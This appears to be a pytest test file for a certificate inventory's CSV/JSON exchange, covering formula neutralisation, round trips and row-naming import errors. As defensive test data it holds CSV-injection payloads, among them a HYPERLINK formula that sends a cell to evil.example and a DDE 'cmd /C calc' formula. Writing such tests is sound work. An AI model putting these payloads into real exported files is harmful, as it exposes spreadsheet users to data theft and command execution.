"""CSV/JSON exchange: formula neutralisation, round trips through Tetra's own CSV, other CAs' JSON,
and errors that name the row.

Reliability: CLM-08 (CSV cells starting with = + - @ tab or CR are neutralised on export and
restored on import).
"""

from __future__ import annotations

import base64
import csv
import io
import json

import pytest
from cryptography.hazmat.primitives.serialization import Encoding

from ca.inventory.containers import NotCertificates
from ca.inventory.exchange import ImportRow, neutralise_cell, read_export, restore_cell, write_csv
from tests.unit.ca.inventory.sample_files import Chain, make_chain

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\rcmd"]


@pytest.fixture(scope="module")
def chain(tmp_path_factory: pytest.TempPathFactory) -> Chain:
    return make_chain(tmp_path_factory.mktemp("chain"))


def _pem(chain: Chain) -> str:
    return chain.leaf.public_bytes(Encoding.PEM).decode()


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_are_neutralised(value: str) -> None:
    """CLM-08."""
    assert neutralise_cell(value) == "'" + value
    assert restore_cell(neutralise_cell(value)) == value


@pytest.mark.parametrize("value", ["plain", "", "'quoted by its author", "1=1", " =leading space", "'"])
def test_other_cells_are_left_alone(value: str) -> None:
    assert neutralise_cell(value) == value
    assert restore_cell(value) == value


def test_written_csv_has_no_live_formula_in_any_cell() -> None:
    """CLM-08: what a spreadsheet would see, cell by cell, header included."""
    text = write_csv(["=header", "owner"], [[value, "x"] for value in HOSTILE])
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert len(cells) == 2 * (len(HOSTILE) + 1)
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert cells[0] == "'=header"


def test_round_trip_through_tetras_csv(chain: Chain) -> None:
    """CLM-08: every cell written neutralised (the PEM itself starts with '-') comes back as it was."""
    header = ["certificate_pem", "owner", "team", "application", "tags", "renewal_method"]
    rows = [
        [_pem(chain), "=cmd|' /C calc'!A0", "@platform", "-billing", "+prod;web, eu", "acme"],
        [chain.root.public_bytes(Encoding.PEM).decode(), "", "", "", "", ""],
    ]
    text = write_csv(header, rows)
    assert "'-----BEGIN CERTIFICATE-----" in text
    imported = read_export(text.encode(), name="export.csv")
    assert imported == [
        ImportRow(chain.leaf, "=cmd|' /C calc'!A0", "@platform", "-billing", ("+prod", "web", "eu"), "acme"),
        ImportRow(chain.root, None, None, None, (), None),
    ]


def test_json_export_from_another_ca(chain: Chain) -> None:
    der = base64.b64encode(chain.root.public_bytes(Encoding.DER)).decode()
    document = [
        {"Certificate": _pem(chain), "owner": "alice@example.com", "tags": ["prod", "prod", "web"], "extra": 1},
        {"der_base64": der, "team": "pki", "tags": "a; b", "renewal_method": None},
    ]
    rows = read_export(json.dumps(document).encode(), name="dump.txt")  # recognised by its leading "["
    assert rows == [
        ImportRow(chain.leaf, "alice@example.com", None, None, ("prod", "web"), None),
        ImportRow(chain.root, None, "pki", None, ("a", "b"), None),
    ]


def test_csv_from_another_ca_with_der_and_a_bom(chain: Chain) -> None:
    der = base64.b64encode(chain.leaf.public_bytes(Encoding.DER)).decode()
    text = '\ufeffSerial,DER_Base64,Owner\r\n01,"' + der + '",bob\r\n\r\n'
    assert read_export(text.encode(), name="legacy.csv") == [ImportRow(chain.leaf, "bob", None, None, (), None)]


@pytest.mark.parametrize(
    ("records", "message"),
    [
        ([{"pem": "x"}, {"owner": "nobody"}], "row 1: pem is not a PEM certificate"),
        ([{"owner": "nobody"}], "row 1: no certificate: none of pem, certificate, cert, certificate_pem, der_base64"),
        ([{"der_base64": "!!"}], "row 1: der_base64 is not a base64 DER certificate"),
        ([{"der_base64": base64.b64encode(b"\x30\x03\x02\x01\x00").decode()}], "row 1: der_base64 is not a base64"),
        (["a string"], "row 1: not a JSON object"),
        ({"pem": "x"}, "JSON export must be a list of objects"),
    ],
)
def test_json_errors_name_the_row(records: object, message: str) -> None:
    with pytest.raises(NotCertificates) as caught:
        read_export(json.dumps(records).encode(), name="in.json")
    assert str(caught.value).startswith(f"in.json: {message}")


def test_errors_name_the_row_later_in_the_file(chain: Chain) -> None:
    good: dict[str, object] = {"pem": _pem(chain)}
    records: list[dict[str, object]] = [good] * 6 + [{"pem": _pem(chain), "owner": 7}]
    with pytest.raises(NotCertificates, match=r"^in\.json: row 7: owner must be text, not int$"):
        read_export(json.dumps(records).encode(), name="in.json")
    records = [good] * 3 + [{"pem": _pem(chain) + _pem(chain)}]
    with pytest.raises(NotCertificates, match=r"^in\.json: row 4: pem holds 2 certificates, not one$"):
        read_export(json.dumps(records).encode(), name="in.json")
    records = [good, {"pem": _pem(chain), "tags": [1, 2]}]
    with pytest.raises(NotCertificates, match=r"^in\.json: row 2: tags must be a list of text"):
        read_export(json.dumps(records).encode(), name="in.json")


def test_csv_errors_name_the_row(chain: Chain) -> None:
    text = write_csv(["pem", "owner"], [[_pem(chain), "a"], [_pem(chain), "b"], ["", "c"]])
    with pytest.raises(NotCertificates, match=r"^x\.csv: row 3: no certificate"):
        read_export(text.encode(), name="x.csv")
    text = write_csv(["pem"], [[_pem(chain)], [_pem(chain), "surplus"]])
    with pytest.raises(NotCertificates, match=r"^x\.csv: row 2: 2 cells for 1 columns$"):
        read_export(text.encode(), name="x.csv")


def test_whole_file_errors() -> None:
    with pytest.raises(NotCertificates, match=r"^e\.csv: empty CSV, no header row$"):
        read_export(b"", name="e.csv")
    assert read_export(b"pem,owner\r\n", name="h.csv") == []
    with pytest.raises(NotCertificates, match=r"^b\.csv: not UTF-8 text \(byte 1\)$"):
        read_export(b"p\xffem", name="b.csv")
    with pytest.raises(NotCertificates, match=r"^j\.json: not valid JSON"):
        read_export(b"[{", name="j.json")
    with pytest.raises(NotCertificates, match=r"^q\.csv: line 2: not valid CSV"):
        read_export(b'pem\r\n"unterminated', name="q.csv")
    with pytest.raises(NotCertificates, match=r"^q\.csv: line 2: not valid CSV \(',' expected after '\"'\)$"):
        read_export(b'pem\r\n"a"b,c\r\n', name="q.csv")


def test_size_cap_is_checked_before_parsing() -> None:
    big = b"[" + b" " * (100 * 1024 * 1024) + b"]"
    with pytest.raises(NotCertificates, match=r"^big\.json: larger than 100 MiB$"):
        read_export(big, name="big.json")
